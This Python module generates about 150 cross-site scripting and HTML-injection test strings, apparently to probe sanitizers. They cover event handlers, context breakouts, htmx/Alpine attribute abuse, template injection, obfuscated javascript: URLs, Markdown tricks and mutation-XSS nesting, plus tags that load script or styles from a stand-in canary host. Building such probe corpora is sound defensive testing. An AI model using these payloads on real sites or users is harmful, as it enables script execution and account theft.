"""150 ways of writing something that acts into a field: elements, attributes, addresses, and what confuses parsers."""

CANARY = "zzxss"
_CALL = f"{CANARY}()"
_IMAGE = f"<img src=x onerror={_CALL}>"
_THERE = f"//{CANARY}.example.com"

_EVENTS = [
    f"<{element} {event}={_CALL}>"
    for element, event in (
        ("svg", "onload"),
        ("body", "onload"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("video><source src=x", "onerror"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("p", "onclick"),
        ("a href=#", "onmouseover"),
        ("style", "onload"),
        ("form", "onsubmit"),
        ("button", "onpointerdown"),
        ("dialog open", "onbeforetoggle"),
        ("div style=animation-name:x", "onanimationstart"),
        ("svg><animate attributename=x", "onbegin"),
    )
]
_BREAKOUTS = [
    f"{before}{_IMAGE}"
    for before in (
        "",
        '">',
        "'>",
        "`>",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</noscript>",
        "</template>",
        "-->",
        "--!>",
        "]]>",
        "</option></select>",
        "</svg>",
        "\r\n\r\n",
    )
]
_ATTRIBUTES = [
    f"{quote} {attribute} x={quote}"
    for quote in ('"', "'", "")
    for attribute in (
        f"onmouseover={_CALL}",
        f"autofocus onfocus={_CALL}",
        f"style=background:url({_THERE})",
        f"hx-get=/{CANARY} hx-trigger=load",
        f"hx-on:load={_CALL}",
        f"x-init={_CALL}",
        f"@click={_CALL}",
        f"formaction=javascript:{_CALL}",
        f"srcdoc=<script>{_CALL}</script>",
    )
]
_LIBRARIES = [
    f"<b hx-get=/{CANARY} hx-trigger=load>",
    f"<b data-hx-post=/{CANARY} data-hx-trigger=load>",
    f"<b hx-on:load={_CALL}>",
    f"<b hx-on::after-request={_CALL}>",
    f"<b hx-vals=js:{{a:{_CALL}}}>",
    f"<b hx-swap-oob=true id={CANARY}>",
    f"<b hx-ext={CANARY}>",
    f'<b hx-headers=\'{{"X":"{CANARY}"}}\'>',
    f"<b sse-connect=/{CANARY}>",
    f"<b x-data x-init={_CALL}>",
    f"<b x-data @click={_CALL}>",
    f"<b x-data :href={_CALL}>",
    f"<b x-html=\"'{CANARY}'\">",
    f"<template x-if={_CALL}>",
    f"{{{{ {CANARY}|safe }}}}",
    f"{{% load {CANARY} %}}",
    f"{{% raw %}}{CANARY}",
    f"${{{_CALL}}}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
]
_SCHEMES = [
    address
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "javascript://example.com/%0a",
        "vbscript:",
        "data:text/html,",
    )
    for address in (f"{scheme}{_CALL}", f"[a]({scheme}{_CALL})")
]
_MARKDOWN = [
    f"[a]: javascript:{_CALL}\n\n[a]",
    f"![a](javascript:{_CALL})",
    f"<javascript:{_CALL}>",
    f'[a](https://example.com/"onmouseover="{_CALL})',
    f"![a]({_THERE}/a.png)",
    f'[a](https://example.com "x" onclick={_CALL})',
    f"<div>\n\n{_IMAGE}\n\n</div>",
]
_ELEMENTS = [
    f"<script>{_CALL}</script>",
    f"<ScRiPt/x>{_CALL}</sCrIpT >",
    f"<script src={_THERE}/a.js>",
    f"<script type=module>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{_CALL}><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,{CANARY}></svg>",
    f"<svg><foreignobject>{_IMAGE}</foreignobject></svg>",
    f"<math href=javascript:{_CALL}>x</math>",
    f"<math><mtext><table><mglyph><style><!--</style>{_IMAGE}",
    f'<noscript><p title="</noscript>{_IMAGE}">',
    f'<svg></p><style><a id="</style>{_IMAGE}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
    f"<iframe src=javascript:{_CALL}>",
    f"<object data={_THERE}>",
    f"<base href={_THERE}/>",
    f"<link rel=stylesheet href={_THERE}/a.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<style>@import '{_THERE}'</style>",
    f"<form action={_THERE}><button>x",
    f"<button formaction=javascript:{_CALL}>x",
    f"<img srcset='{_THERE}/a.png 1x'>",
    f"<p style='background:url({_THERE})'>x",
    f"<img/src=x/onerror={_CALL}//",
    f"<img src=x oneonerrorrror={_CALL}>",
    f"<<img src=x onerror={_CALL}//<",
    f'<img """><script>{_CALL}</script>">',
    f"&lt;img src=x onerror={_CALL}&gt;",
    f"%3Cimg src=x onerror={_CALL}%3E",
    f"\uff1cimg src=x onerror={_CALL}\uff1e",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<!DOCTYPE x [<!ENTITY y '{CANARY}'>]>&y;",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_CALL}</x:script>",
    f"<custom-{CANARY} onfocus=x tabindex=1>",
]
PAYLOADS = [*_EVENTS, *_BREAKOUTS, *_ATTRIBUTES, *_LIBRARIES, *_SCHEMES, *_MARKDOWN, *_ELEMENTS]
